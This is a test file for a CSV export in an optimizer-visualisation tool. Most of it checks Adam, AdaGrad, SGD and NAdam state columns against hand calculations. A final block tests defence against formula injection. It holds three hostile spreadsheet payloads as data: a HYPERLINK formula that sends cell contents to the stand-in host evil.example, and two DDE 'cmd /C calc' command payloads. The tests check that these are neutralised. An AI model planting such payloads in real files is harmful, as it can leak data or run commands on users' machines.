// The CSV export's optimizer-state columns (PyTorch's state keys, the state after `step` steps)
// against hand computations, and its text cells against formula injection (issue 9 #9).
import { describe, expect, it } from 'vitest';
import { runsToCsv, type ExportRun } from '../../src/core/export';
import { simulate } from '../../src/core/simulate';
import type { ParamValue } from '../../src/core/params';
import type { ResolvedRun } from '../../src/core/types';
import { makeRun as makeExportRun } from '../export-run';

// f = ½(x² + 10·y²) (quadratic, a = 1, b = 10): ∇f = (x, 10·y)
const grad = (x: number, y: number): [number, number] => [x, 10 * y];

/** A run on the quadratic, 6 steps. */
const makeRun = (id: string, optimizer: string, params: Record<string, ParamValue>) =>
  makeExportRun(id, optimizer, params, { steps: 6 }, 'quadratic');

const lane = (name: string, run: ResolvedRun): ExportRun => ({
  name,
  run,
  trajectory: simulate(run),
});

/** The CSV as rows of named cells (no quoted commas in these tests' names). */
function table(csv: string): Record<string, string>[] {
  const [head, ...rows] = csv.trimEnd().split('\n');
  const names = head!.split(',');
  return rows.map((r) => Object.fromEntries(r.split(',').map((v, i) => [names[i]!, v])));
}

const num = (cell: string | undefined): number => {
  expect(cell).toMatch(/\d/);
  return Number(cell);
};

describe('CSV optimizer state', () => {
  it("Adam: exp_avg and exp_avg_sq at step t are PyTorch's moments after t steps", () => {
    const rows = table(runsToCsv([lane('Adam', makeRun('a', 'adam', { lr: 0.05 }))]));
    expect(Object.keys(rows[0]!)).toEqual([
      'lane',
      'run',
      'step',
      'x',
      'y',
      'loss',
      'lr',
      'exp_avg_x',
      'exp_avg_y',
      'exp_avg_sq_x',
      'exp_avg_sq_y',
    ]); // no max_exp_avg_sq without amsgrad, no `step` (it is the step column)
    // Step 0: nothing taken yet, the moments are zero.
    expect(rows[0]).toMatchObject({ exp_avg_x: '0', exp_avg_y: '0', exp_avg_sq_x: '0' });
    // Step 1: g₀ = ∇f(−1.5, 2) = (−1.5, 20); m = 0.1·g₀ = (−0.15, 2); v = 0.001·g₀² = (0.00225, 0.4)
    expect(num(rows[1]!['exp_avg_x'])).toBeCloseTo(-0.15, 15);
    expect(num(rows[1]!['exp_avg_y'])).toBeCloseTo(2, 14);
    expect(num(rows[1]!['exp_avg_sq_x'])).toBeCloseTo(0.00225, 16);
    expect(num(rows[1]!['exp_avg_sq_y'])).toBeCloseTo(0.4, 15);
    // Step t: m ← 0.9·m + 0.1·g, v ← 0.999·v + 0.001·g², g at the CSV's own x_{t−1}.
    let m = [0, 0];
    let v = [0, 0];
    for (let t = 1; t < rows.length; t++) {
      const g = grad(num(rows[t - 1]!['x']), num(rows[t - 1]!['y']));
      m = m.map((mi, i) => 0.9 * mi + 0.1 * g[i]!);
      v = v.map((vi, i) => 0.999 * vi + 0.001 * g[i]! ** 2);
      expect(num(rows[t]!['exp_avg_x'])).toBeCloseTo(m[0]!, 12);
      expect(num(rows[t]!['exp_avg_y'])).toBeCloseTo(m[1]!, 12);
      expect(num(rows[t]!['exp_avg_sq_x'])).toBeCloseTo(v[0]!, 12);
      expect(num(rows[t]!['exp_avg_sq_y'])).toBeCloseTo(v[1]!, 12);
    }
  });

  it('AdaGrad: sum at step t is the initial accumulator plus the squared gradients so far', () => {
    const run = makeRun('g', 'adagrad', { lr: 0.1, initial_accumulator_value: 0.5 });
    const rows = table(runsToCsv([lane('AdaGrad', run)]));
    expect(Object.keys(rows[0]!).slice(7)).toEqual(['sum_x', 'sum_y']);
    expect(rows[0]).toMatchObject({ sum_x: '0.5', sum_y: '0.5' });
    // Step 1: 0.5 + (−1.5)² = 2.75 and 0.5 + 20² = 400.5
    expect(num(rows[1]!['sum_x'])).toBe(2.75);
    expect(num(rows[1]!['sum_y'])).toBe(400.5);
    let s = [0.5, 0.5];
    for (let t = 1; t < rows.length; t++) {
      const g = grad(num(rows[t - 1]!['x']), num(rows[t - 1]!['y']));
      s = s.map((si, i) => si + g[i]! ** 2);
      expect(num(rows[t]!['sum_x'])).toBeCloseTo(s[0]!, 12);
      expect(num(rows[t]!['sum_y'])).toBeCloseTo(s[1]!, 10);
    }
  });

  it('plain SGD keeps no state: no state columns; beside Adam, its state cells are empty', () => {
    const sgd = lane('SGD', makeRun('s', 'sgd', { lr: 0.01 }));
    expect(runsToCsv([sgd]).split('\n')[0]).toBe('lane,run,step,x,y,loss,lr');
    const both = table(runsToCsv([lane('Adam', makeRun('a', 'adam', { lr: 0.05 })), sgd]));
    const sgdRows = both.filter((r) => r['lane'] === 'SGD');
    expect(sgdRows).toHaveLength(7);
    for (const r of sgdRows) {
      expect(r['x']).toMatch(/\d/);
      expect([r['exp_avg_x'], r['exp_avg_y'], r['exp_avg_sq_x'], r['exp_avg_sq_y']]).toEqual([
        '',
        '',
        '',
        '',
      ]);
    }
    // With momentum SGD keeps momentum_buffer: b₁ = g₀ (PyTorch clones the first gradient).
    const rows = table(runsToCsv([lane('M', makeRun('m', 'sgd', { lr: 0.01, momentum: 0.9 }))]));
    expect(Object.keys(rows[0]!).slice(7)).toEqual(['momentum_buffer_x', 'momentum_buffer_y']);
    expect(num(rows[1]!['momentum_buffer_y'])).toBe(20);
  });

  it("NAdam: mu_product is PyTorch's float32 running product of μₜ, starting at 1", () => {
    const rows = table(runsToCsv([lane('N', makeRun('n', 'nadam', {}))]));
    expect(Object.keys(rows[0]!).slice(7)).toEqual([
      'mu_product',
      'exp_avg_x',
      'exp_avg_y',
      'exp_avg_sq_x',
      'exp_avg_sq_y',
    ]);
    expect(rows[0]!['mu_product']).toBe('1');
    // μ₁ = 0.9·(1 − ½·0.96^0.004), μ₂ = 0.9·(1 − ½·0.96^0.008), each rounded to float32
    const f = Math.fround;
    const mu1 = 0.9 * (1 - 0.5 * 0.96 ** 0.004);
    const mu2 = 0.9 * (1 - 0.5 * 0.96 ** 0.008);
    expect(num(rows[1]!['mu_product'])).toBe(f(mu1));
    expect(num(rows[2]!['mu_product'])).toBe(f(f(mu1) * f(mu2)));
  });

  it('a diverged lane has empty state cells from its divergence on', () => {
    const run = makeRun('hot', 'adagrad', { lr: 1e200 });
    const t = simulate(run);
    expect(t.divergedAt).not.toBeNull();
    const rows = table(runsToCsv([{ name: 'hot', run, trajectory: t }]));
    expect(rows[t.divergedAt!]).toMatchObject({ x: '', sum_x: '', sum_y: '' });
    expect(runsToCsv([{ name: 'hot', run, trajectory: t }])).not.toMatch(/NaN|Infinity/);
  });

  it('the map does not record the state unless asked', () => {
    const run = makeRun('a', 'adam', {});
    expect(simulate(run).state).toBeUndefined();
    const recorded = simulate(run, undefined, { recordState: true });
    expect(recorded.state).toHaveLength(7 * 6); // 7 rows of 3 slots × 2 coordinates
    expect(Array.from(recorded.x)).toEqual(Array.from(simulate(run).x));
  });
});

describe('CSV formula injection (OWASP)', () => {
  const payloads = [
    '=HYPERLINK("http://evil.example/?"&A1,"C")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
  ];

  it('the three payloads from issue 9 are prefixed with a quote and quoted', () => {
    const run = makeRun('r', 'sgd', { lr: 0.01 });
    const csv = runsToCsv(payloads.map((name) => lane(name, run)));
    const lines = csv.trimEnd().split('\n');
    expect(lines[1]!.startsWith('"\'=HYPERLINK(""http://evil.example/?""&A1,""C"")",r,0,')).toBe(
      true,
    );
    expect(lines[8]!.startsWith(`"'+cmd|' /C calc'!A0",r,0,`)).toBe(true);
    expect(lines[15]!.startsWith(`"'@SUM(1+1)*cmd|' /C calc'!A0",r,0,`)).toBe(true);
    // No line starts a cell with a formula character any more.
    for (const line of lines.slice(1)) expect(line).not.toMatch(/(^|,)[=+@\t\r]/);
  });

  it('text that starts with −, tab or CR is neutralised too; negative numbers stay numbers', () => {
    const run = makeRun('-r', 'sgd', { lr: 0.01 });
    const csv = runsToCsv([lane('-1.5', run), lane('\tx', run), lane('\rx', run)]);
    const lines = csv.split('\n');
    // x₀ = −1.5 is a number: written as it is, next to the neutralised text cells.
    expect(lines[1]!.startsWith(`"'-1.5","'-r",0,-1.5,2,`)).toBe(true);
    expect(csv).toContain(`"'\tx","'-r",0,-1.5,`);
    expect(csv).toContain(`"'\rx","'-r",0,-1.5,`);
  });
});
